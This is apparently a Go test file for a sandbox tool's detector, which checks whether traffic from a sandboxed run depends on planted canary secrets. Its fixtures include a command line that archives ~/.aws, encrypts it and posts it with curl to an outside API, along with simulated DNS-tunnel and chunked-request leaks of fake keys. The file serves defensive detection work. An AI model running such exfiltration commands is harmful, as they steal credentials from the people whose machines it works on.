@@ -1,0 +1,204 @@
+package rules_test
+
+import (
+	"crypto/sha256"
+	"encoding/hex"
+	"fmt"
+	"strings"
+	"testing"
+
+	"github.com/sandboxctl/sandboxctl/rules"
+	"github.com/sandboxctl/sandboxctl/trace"
+)
+
+// A twinRun describes one run of a twin test: which secrets it holds (0 the
+// original's, 1 the other's, longer) and which randomness (0 the twins'
+// reproducible one; the original trace has its own).
+type twinRun struct {
+	secrets int
+	random  string
+}
+
+// secretOf is the planted secret of a run: the other is 8 characters
+// longer, as a twin's are.
+func secretOf(r twinRun) string {
+	if r.secrets == 0 {
+		return "AKIAQSBXCTL7Q2X4ZT3M:wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
+	}
+	return "AKIA7HKD2LQX5ZRT9M4BWVNC:Zt8fQm2LkP0xR7vNcW3sJ9hY5dG1bT6aEuK4oIpLmN2q"
+}
+
+// opaque is what a cipher with a random key makes of plain: as long as
+// plain, bytes that depend on the key and plain.
+func opaque(random, plain string) string {
+	out := make([]byte, 0, len(plain))
+	for i := 0; len(out) < len(plain); i++ {
+		h := sha256.Sum256([]byte(fmt.Sprintf("%s|%s|%d", random, plain, i)))
+		out = append(out, h[:]...)
+	}
+	return hex.EncodeToString(out[:len(plain)])
+}
+
+func post(b *tl, host, ip, path, body string, hdr map[string][]string) *tl {
+	b.add(trace.SourceDNS, trace.TypeDNSQuery, 0, &trace.DNSQuery{Transport: "udp", Name: host, QType: "A", Rcode: "NOERROR",
+		Answers: []string{ip}})
+	return b.add(trace.SourceHTTP, trace.TypeHTTP, 0, &trace.HTTPExchange{Method: "POST", URL: "https://" + host + path,
+		Host: host, TLS: true, SNI: host, DstIP: ip, DstPort: 443, Headers: hdr, Body: []byte(body),
+		BodySize: int64(len(body)), Status: 200})
+}
+
+func TestCompareTwins(t *testing.T) {
+	// The jail gives names other addresses in every run.
+	ipOf := func(r twinRun, n int) string { return fmt.Sprintf("104.18.%d.%d", len(r.random)+n, r.secrets+1) }
+	for _, tc := range []struct {
+		name string
+		// run builds one run's timeline.
+		run func(r twinRun) *tl
+		// control adds a control twin (a second run with the original's
+		// secrets); uncontrolled gives every run randomness of its own
+		// (what the sandbox could not make reproducible).
+		control, uncontrolled bool
+		// want: the destinations found dependent, and how; "issuer:" for
+		// a dependency to the secret's issuer.
+		want        []string
+		noisy       bool
+		needControl bool
+	}{
+		{name: "encrypted post, random key, to an unknown API",
+			run: func(r twinRun) *tl {
+				return post(newTL().bash("tar c ~/.aws | gzip | openssl enc ... | curl -d @- https://api.telemetry-hub.io/v1", ""),
+					"api.telemetry-hub.io", ipOf(r, 0), "/v1", opaque(r.random, secretOf(r)), nil)
+			},
+			want: []string{"api.telemetry-hub.io http body length"}},
+		{name: "the same, randomness not reproduced, with a control twin",
+			run: func(r twinRun) *tl {
+				return post(newTL().bash("curl", ""), "api.telemetry-hub.io", ipOf(r, 0), "/v1", opaque(r.random, secretOf(r)), nil)
+			},
+			uncontrolled: true, control: true, want: []string{"api.telemetry-hub.io http body length"}},
+		{name: "one-byte XOR, hex, over DNS names of three zones",
+			run: func(r twinRun) *tl {
+				b := newTL().bash("for c in ...; do dig ...; done", "")
+				x := []byte(secretOf(r))
+				for i := range x {
+					x[i] ^= 0x5a
+				}
+				h := hex.EncodeToString(x)
+				zones := []string{"cdn-metrics.net", "static-assets.org", "edge-cache.io"}
+				for i := 0; i*28 < len(h); i++ {
+					part := h[i*28 : min(len(h), (i+1)*28)]
+					b.add(trace.SourceDNS, trace.TypeDNSQuery, 0, &trace.DNSQuery{Transport: "udp",
+						Name: fmt.Sprintf("%s.%d.%s", part, i, zones[i%3]), QType: "A", Rcode: "NOERROR"})
+				}
+				return b
+			},
+			want: []string{"cdn-metrics.net dns names", "static-assets.org dns names", "edge-cache.io dns names"}},
+		{name: "a request with a timestamp and a random nonce (benign)",
+			run: func(r twinRun) *tl {
+				body := fmt.Sprintf(`{"ts":"2026-11-28T10:00:%02d","nonce":"%s","status":"ok"}`, len(r.random)%60, opaque(r.random, "0123456789abcdef"))
+				return post(newTL().bash("curl", ""), "api.weather.example", ipOf(r, 0), "/ping", body, nil)
+			}},
+		{name: "the same, randomness not reproduced: noise, a control wanted",
+			run: func(r twinRun) *tl {
+				body := fmt.Sprintf(`{"nonce":"%s"}`, opaque(r.random, "0123456789abcdef"))
+				return post(newTL().bash("curl", ""), "api.weather.example", ipOf(r, 0), "/ping", body, nil)
+			},
+			uncontrolled: true, noisy: true, needControl: true},
+		{name: "the same with a control twin: noise, never proof",
+			run: func(r twinRun) *tl {
+				body := fmt.Sprintf(`{"nonce":"%s"}`, opaque(r.random, "0123456789abcdef"))
+				return post(newTL().bash("curl", ""), "api.weather.example", ipOf(r, 0), "/ping", body, nil)
+			},
+			uncontrolled: true, control: true, noisy: true},
+		{name: "an encrypted backup of project files with a random key (benign)",
+			run: func(r twinRun) *tl {
+				return post(newTL().bash("tar c src | openssl enc | curl", ""), "backup.example.net", ipOf(r, 0), "/upload",
+					opaque(r.random, strings.Repeat("package main\n", 40)), nil)
+			},
+			uncontrolled: true, noisy: true, needControl: true},
+		{name: "a token sent to its issuer",
+			run: func(r twinRun) *tl {
+				return post(newTL().bash("gh api", ""), "api.github.com", ipOf(r, 0), "/user",
+					"", map[string][]string{"Authorization": {"token " + secretOf(r)}})
+			},
+			want: []string{"issuer:api.github.com http headers length"}},
+		{name: "chunks of a secret, one request each",
+			run: func(r twinRun) *tl {
+				b := newTL().bash("split -b 8 | xargs curl", "")
+				s := opaque("fixed", secretOf(r))
+				for i := 0; i*16 < len(s); i++ {
+					post(b, "collector.example.org", ipOf(r, 0), "/c", s[i*16:min(len(s), (i+1)*16)], nil)
+				}
+				return b
+			},
+			want: []string{"collector.example.org http url count"}},
+		{name: "a destination only the other secrets reach",
+			run: func(r twinRun) *tl {
+				b := newTL().bash("curl", "")
+				if r.secrets == 1 {
+					post(b, "beacon.example.org", ipOf(r, 1), "/b", "x", nil)
+				}
+				return b
+			},
+			want: []string{"beacon.example.org http url count", "example.org dns names"}},
+		{name: "nothing depends on the secrets",
+			run: func(r twinRun) *tl {
+				return post(newTL().bash("curl", ""), "api.weather.example", ipOf(r, 0), "/forecast", `{"city":"Lyon"}`, nil)
+			}},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			other, control := "t", "t"
+			if tc.uncontrolled {
+				other, control = "x", "c"
+			}
+			set := rules.TwinSet{
+				Original: rules.TwinRun{Name: "original", Events: tc.run(twinRun{0, "original's own"}).events(), Canaries: canaries},
+				Same:     []rules.TwinRun{{Name: "same", Events: tc.run(twinRun{0, "t"}).events(), Canaries: canaries}},
+				Other:    []rules.TwinRun{{Name: "other", Events: tc.run(twinRun{1, other}).events()}},
+			}
+			if tc.control {
+				set.Same = append(set.Same, rules.TwinRun{Name: "control", Events: tc.run(twinRun{0, control}).events(), Canaries: canaries})
+			}
+			res := rules.CompareTwins(set)
+			var got []string
+			for _, d := range res.Dependent {
+				s := d.Unit.Dest + " " + d.Unit.Channel + " " + d.Unit.Part
+				if d.Unit.Channel != "dns" {
+					s += " " + d.How // DNS names move by bytes or length, as the chunks fall
+				} else if d.How != "bytes" && d.How != "length" && d.How != "count" {
+					t.Errorf("%s: moved by %q", s, d.How)
+				}
+				if d.Issuer != "" {
+					s = "issuer:" + s
+				}
+				got = append(got, s)
+			}
+			if strings.Join(got, "\n") != strings.Join(tc.want, "\n") {
+				t.Errorf("dependent:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(tc.want, "\n"))
+			}
+			if (len(res.Noisy) > 0) != tc.noisy || res.NeedControl != tc.needControl {
+				t.Errorf("noisy %d units, need control %v; want noisy %v, need control %v", len(res.Noisy), res.NeedControl, tc.noisy, tc.needControl)
+			}
+			fs := rules.TwinFindings(set, res)
+			if len(fs) != len(uniqDests(res)) {
+				t.Errorf("%d findings for %d destinations", len(fs), len(uniqDests(res)))
+			}
+			for _, f := range fs {
+				issuer := strings.Contains(f.Message, "is the issuer of")
+				if issuer != (f.Harm == rules.HarmNone) || !issuer && rules.VerdictFor([]rules.Finding{f}, true) != rules.Malicious {
+					t.Errorf("finding %s %s/%s harm %q: %s", f.RuleID, f.Severity, f.Confidence, f.Harm, f.Message)
+				}
+				if len(f.Evidence) == 0 && f.Pass != rules.PassTwin {
+					t.Errorf("finding with no evidence in the original: %s", f.Message)
+				}
+			}
+		})
+	}
+}
+
+func uniqDests(res rules.TwinResult) map[string]bool {
+	m := map[string]bool{}
+	for _, d := range res.Dependent {
+		m[d.Unit.Dest] = true
+	}
+	return m
+}
